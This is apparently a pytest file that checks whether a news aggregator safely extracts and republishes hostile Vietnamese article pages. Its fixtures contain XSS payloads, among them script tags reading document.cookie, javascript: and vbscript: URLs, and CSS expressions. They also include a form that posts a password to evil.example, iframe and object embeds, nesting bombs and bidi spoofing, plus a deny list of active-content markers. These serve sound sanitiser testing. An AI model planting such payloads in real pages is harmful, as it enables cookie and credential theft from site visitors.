"""Hostile article pages through extraction and the feeds: nothing crashes, the words stay,
only sanitised HTML reaches a feed reader."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import feedparser
import pytest

from aggregator.exceptions import ExtractionError
from aggregator.extraction import extract_article
from aggregator.models import Article
from feeds.model import FeedEntry, FeedSource, FeedSpec
from feeds.writer import write_feeds
from tests.test_fuzz import XML_INVALID, assert_clean

URL = "https://sldtbxh.laichau.gov.vn/tin-tuc/hoi-nghi-tong-ket-cong-tac-lao-dong-2024-1234.html"
WORDS = [
    "Hội nghị tổng kết công tác lao động",
    "giải quyết việc làm cho hơn mười nghìn lao động",
    "chú trọng đào tạo nghề gắn với nhu cầu của doanh nghiệp",
]
ACTIVE = ["alert(", "evil.example", "expression(", "javascript:", "vbscript:", "<script"]


def page(body_extra: str = "", inside: str = "", head: str = "") -> str:
    return f"""<!doctype html><html lang="vi"><head><meta charset="utf-8">
<title>{WORDS[0]} năm 2024</title>{head}</head><body>{body_extra}
<article><h1>{WORDS[0]} năm 2024</h1>
<p>Ngày 12/01/2025, Sở tổ chức hội nghị tổng kết công tác lao động, người có công và xã hội
năm 2024 với sự tham dự của đại diện các phòng, ban và đơn vị trực thuộc trên địa bàn tỉnh.</p>
{inside}
<p>Năm 2024, toàn tỉnh đã {WORDS[1]}, vượt kế hoạch đề ra; tỷ lệ hộ nghèo giảm còn dưới ba
phần trăm; các chế độ chính sách được chi trả đầy đủ, kịp thời cho các đối tượng.</p>
<p>Hội nghị cũng đề ra nhiệm vụ trọng tâm năm 2025, trong đó {WORDS[2]} và hỗ trợ người lao
động tìm việc làm ổn định, nâng cao thu nhập.</p>
</article></body></html>"""


HOSTILE_PAGES: dict[str, str | bytes] = {
    "script": page(
        "<script>alert(document.cookie)</script>",
        "<script type='text/javascript'>var x = 'alert(1)';</script><noscript>alert(2)</noscript>",
        "<script src='https://evil.example/x.js'></script>",
    ),
    "event attributes": page(
        '<div onmouseover="alert(1)">menu</div>',
        '<p onclick="alert(1)" onload=alert(2)>Đoạn có thuộc tính sự kiện vẫn giữ chữ.</p>'
        '<img src="https://sldtbxh.laichau.gov.vn/anh.jpg" onerror="alert(3)" alt="Ảnh">',
    ),
    "javascript and data URLs": page(
        inside='<p><a href="javascript:alert(1)">Xem thêm</a> và '
        '<a href=" JaVaScRiPt:alert(2)">tải về</a>.</p>'
        '<img src="javascript:alert(3)" alt="x"><img src="data:image/png;base64,iVBORw0KGgo=">'
        '<img src="vbscript:msgbox(1)"><a href="data:text/html,<script>alert(4)</script>">x</a>',
    ),
    "css expressions": page(
        head="<style>p { width: expression(alert(1)); background: url(javascript:alert(2)) }"
        "</style>",
        inside='<p style="width: expression(alert(3))">Đoạn có kiểu dáng nguy hiểm.</p>',
    ),
    "forms": page(
        inside='<form action="https://evil.example/steal" method="post">'
        '<input type="password" name="pw" value="alert(1)"><button>Gửi</button></form>',
    ),
    "iframes": page(
        '<iframe src="https://evil.example/"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>'
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/">',
    ),
    "huge attribute values": page(
        inside=f'<p title="{"A" * 1_000_000}" data-x="{"é" * 200_000}">Đoạn có thuộc tính rất '
        "dài nhưng chữ vẫn phải được giữ lại.</p>",
    ),
    "xml control characters": page(
        inside="<p>Đoạn có ký tự điều khiển \x00\x01\x08\x0b\x0c\x1f\ufffe\uffff ở giữa.</p>"
    ).replace(WORDS[1], WORDS[1].replace(" ", " \x0b", 1)),
    "invalid utf-8": page(inside="<p>Đoạn có byte hỏng: @@BAD@@ ở giữa câu.</p>")
    .encode("utf-8")
    .replace(b"@@BAD@@", b"\xff\xfe\xc3\x28\xa0\xa1\xe2\x82"),
    "nesting bomb": page(inside="<div>" * 100_000 + "<p>Tận cùng.</p>" + "</div>" * 100_000),
    "unclosed nesting bomb": page(inside="<div><span>" * 50_000),
}


def feed_of(article: Article) -> FeedSpec:
    when = datetime(2025, 1, 12, 8, 0, tzinfo=UTC)
    entry = FeedEntry(
        guid="tag:tinlaodong,2024:story/" + "0" * 32,
        title=article.title or article.text.split("\n", 1)[0][:120],
        link=URL,
        text=article.text,
        published=article.published or when,
        updated=when,
        author=article.author,
        sources=(FeedSource("laichau", "Sở Nội vụ Lai Châu", URL),),
        images=tuple((image.src, image.caption) for image in article.images),
    )
    return FeedSpec("all", "tinlaodong", "Tin lao động", "https://tinlaodong.example/", (entry,))


# libxml2's HTML parser stops at a nesting depth of 255: what follows is not read (no crash).
BOMBS = {"nesting bomb", "unclosed nesting bomb"}
# Refused outright by aggregator/extraction.py today (see test_a_few_bad_bytes_...): allowed,
# since an ExtractionError is a clean refusal, but a known loss.
MAY_REFUSE = {"invalid utf-8"}
FIRST_WORDS = "Sở tổ chức hội nghị tổng kết công tác lao động"


@pytest.mark.parametrize("name", HOSTILE_PAGES)
def test_a_hostile_page_is_read_safely_and_published_clean(name: str, tmp_path: Path) -> None:
    try:
        article = extract_article(HOSTILE_PAGES[name], url=URL)
    except ExtractionError:
        # Refusing a page is fine; crashing is not.
        assert name in MAY_REFUSE, name
        return
    text = article.text
    for words in [FIRST_WORDS] if name in BOMBS else WORDS[1:]:
        assert words in text.replace("\x0b", ""), (name, text[:300])
    for active in ACTIVE:
        assert active not in text.lower(), (name, active)
    assert XML_INVALID.search(text) is None, name

    written = write_feeds(tmp_path, [feed_of(article)])
    for path in written:
        if path.name.endswith((".rss.xml", ".atom.xml")):
            parsed = feedparser.parse(path.read_bytes())
            assert not parsed.bozo, (name, parsed.bozo_exception)
            [entry] = parsed.entries
            body = entry.content[0].value if "content" in entry else entry.description
            assert_clean(body)
            assert FIRST_WORDS in body
            for active in ACTIVE:
                assert active not in body.lower(), (name, path.name, active)


def test_only_http_image_urls_are_stored() -> None:
    article = extract_article(HOSTILE_PAGES["javascript and data URLs"], url=URL)
    assert [i.src for i in article.images if not i.src.startswith(("http://", "https://"))] == []


def test_a_few_bad_bytes_in_a_utf8_page_keep_its_words() -> None:
    article = extract_article(HOSTILE_PAGES["invalid utf-8"], url=URL)
    assert WORDS[1] in article.text and "Đoạn có byte hỏng" in article.text


def test_bidirectional_overrides_do_not_reach_the_title_or_the_text() -> None:
    # U+202E turns the rest of a line around in a feed reader ("gpj.exe" tricks); Vietnamese
    # text has no use for explicit direction controls.
    spoofed = page().replace(f"{WORDS[0]} năm 2024</h1>", f"{WORDS[0]} \u202enăm 2024\u202c</h1>")
    spoofed = spoofed.replace("phần trăm;", "phần \u2067trăm\u2069;")
    spoofed = spoofed.replace(f"{WORDS[0]} \u202e", f"{WORDS[0]} \u200f\u061c\u200e\u202e")
    article = extract_article(spoofed, url=URL)
    # The marks (RLM, LRM, ALM) too: they reorder the neutral characters around them.
    controls = set("\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert article.title == f"{WORDS[0]} năm 2024"
    assert not controls & set(article.text) and "phần trăm" in article.text


@pytest.mark.parametrize("reference", ["&#xFFFE;", "&#65535;", "&#x1;", "&#xD800;", "&#x110000;"])
def test_one_reference_to_a_character_xml_cannot_hold_keeps_the_article(reference: str) -> None:
    article = extract_article(page().replace("phần trăm;", f"phần trăm{reference};"), url=URL)
    assert all(words in article.text for words in WORDS[1:])
    assert "phần trăm;" in article.text
